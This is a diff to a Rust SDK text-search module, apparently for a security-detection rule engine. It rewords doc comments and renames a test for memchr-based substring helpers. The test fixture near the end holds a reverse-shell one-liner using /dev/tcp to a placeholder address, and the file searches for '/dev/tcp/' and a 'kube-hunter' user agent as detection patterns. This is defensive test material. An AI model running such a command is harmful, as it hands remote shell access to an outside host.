@@ -1,12 +1,12 @@
-//! Searching in texts.
+//! Fast text search.
 //!
-//! Whether a user agent, a command line or a path holds one of a list of words is what many
-//! rules ask. In WebAssembly `str::contains` looks at one byte at a time; these look at 16
-//! (`wardline plugin build` allows the instructions for that).
+//! Many rules search user agents, command lines, and paths for words. In WebAssembly,
+//! `str::contains` compares one byte at a time; these functions compare 16 (`wardline plugin build`
+//! enables the instructions that they need).
 
 use memchr::memmem;
 
-/// Whether a text holds another. Every text holds the empty one.
+/// Returns whether a text contains another. Every text contains the empty one.
 ///
 /// ```
 /// assert!(wardline_sdk::text::contains("curl/8.5.0 (kube-hunter)", "kube-hunter"));
@@ -17,14 +17,14 @@ pub fn contains(text: &str, search: &str) -> bool {
     find(text, search).is_some()
 }
 
-/// Where the first occurrence of a text in another begins, in bytes.
+/// Returns the offset, in bytes, of the first occurrence of `search` in a text.
 #[inline]
 #[must_use]
 pub fn find(text: &str, search: &str) -> Option<usize> {
     memmem::find(text.as_bytes(), search.as_bytes())
 }
 
-/// A text that is searched for in many others: what can be prepared for it is prepared once.
+/// A prepared search for one text in many others.
 #[derive(Debug, Clone)]
 pub struct Search(memmem::Finder<'static>);
 
@@ -35,7 +35,7 @@ impl Search {
         Self(memmem::Finder::new(search.as_bytes()).into_owned())
     }
 
-    /// As [`contains`].
+    /// Returns whether a text contains the one that is searched for, as [`contains`].
     #[inline]
     #[must_use]
     pub fn is_in(&self, text: &str) -> bool {
@@ -48,7 +48,7 @@ mod tests {
     use super::{Search, contains, find};
 
     #[test]
-    fn what_is_found_is_what_the_standard_library_finds() {
+    fn agrees_with_the_standard_library() {
         let text = "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' # é";
         for search in [
             "/dev/tcp/",
